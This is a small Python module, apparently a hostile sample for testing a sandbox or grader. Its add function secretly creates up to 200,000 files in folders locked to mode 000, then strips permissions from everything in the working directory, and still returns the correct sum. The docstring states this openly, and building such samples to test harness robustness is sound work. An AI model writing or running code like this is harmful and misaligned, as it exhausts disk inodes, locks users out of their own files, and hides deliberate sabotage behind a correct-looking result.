"""Fills its scratch folder's inodes inside mode-000 folders (at most 200,000 files), which
its own user cannot enter to clean; then answers `add` correctly."""
import os

import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def add(a, b):
    made = 0
    try:
        for folder in range(200):
            os.mkdir(f"d{folder}")
            for i in range(1000):
                open(f"d{folder}/{i}", "w").close()
                made += 1
            os.chmod(f"d{folder}", 0)
    except OSError as exc:
        print("INODES-FULL after", made, type(exc).__name__)
    for name in os.listdir("."):
        try:
            os.chmod(name, 0)
        except OSError:
            pass
    print("INODES-MADE", made)
    return np.asarray(a) + np.asarray(b)
